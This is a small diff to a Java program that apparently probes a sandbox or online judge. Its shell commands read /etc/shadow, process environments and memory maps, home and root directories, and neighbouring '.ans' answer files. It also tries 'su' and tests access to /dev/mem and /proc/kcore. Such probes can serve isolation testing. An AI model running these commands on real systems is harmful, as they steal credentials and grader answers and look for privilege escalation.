@@ -21,11 +21,7 @@ public class Main {
     public static void main(String[] arguments) {
         run("sh", "-c", "cat /etc/shadow /proc/1/environ /proc/1/maps ../*.ans /root/* /home/*/* 2>/dev/null");
         run("sh", "-c", "ls /root /home /sys /srv /opt 2>/dev/null; ls -A /box | grep -v -e classes.tar -e '^Main' -e META-INF");
-        try {
-            harm.append(new String(Runtime.getRuntime().exec(new String[] {"su", "-c", "id"}).getInputStream().readAllBytes()));
-        } catch (IOException error) {
-            harm.append("");
-        }
+        run("su", "-c", "id");
         for (String path : new String[] {"/proc/1/root/etc/shadow", "/proc/1/cwd", "/proc/1/mem", "/dev/mem", "/proc/kcore"}) {
             if (Files.isReadable(Path.of(path))) harm.append(path);
         }
